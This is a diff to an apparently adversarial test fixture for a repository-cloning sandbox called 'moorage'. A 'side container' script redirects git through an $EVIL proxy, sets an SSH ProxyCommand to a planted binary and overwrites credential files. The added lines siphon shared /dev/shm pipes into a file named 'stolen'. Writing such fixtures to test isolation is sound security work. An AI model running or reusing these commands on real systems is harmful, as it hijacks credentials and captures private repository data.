@@ -26,6 +26,9 @@ printf '[http]\nproxy=%s\n[url "%s/private"]\ninsteadOf=%s/private\n' "$EVIL" "$
 printf 'Host *\nProxyCommand /projects/evil\n' >/projects/.home/.ssh/config
 for file in .gitconfig .netrc .git-credentials .home/.gitconfig; do cp /projects/config /projects/$file; done
 while :; do
+  for pipe in /dev/shm/moorage-*; do [ -p $pipe ] && timeout 1 cat $pipe >>/projects/stolen; done
+done 2>/dev/null &
+while :; do
   for folder in /projects/app /projects/.moorage/clone/*.part /projects/.moorage/clone/*.whole; do
     [ -d $folder/.git ] || continue
     touch $folder/.git/moorage-incomplete
@@ -41,7 +44,7 @@ while :; do
   done
 done 2>/dev/null
 """
-"""A side container: as fast as it can, it plants hooks (MODE), settings or other hosts wherever a clone appears, or swaps the clone's
+"""A side container: as fast as it can, it reads from pipes that the sandbox may share with it, and plants hooks (MODE), settings or other hosts wherever a clone appears, or swaps the clone's
 folders for links to TARGET."""
 
 
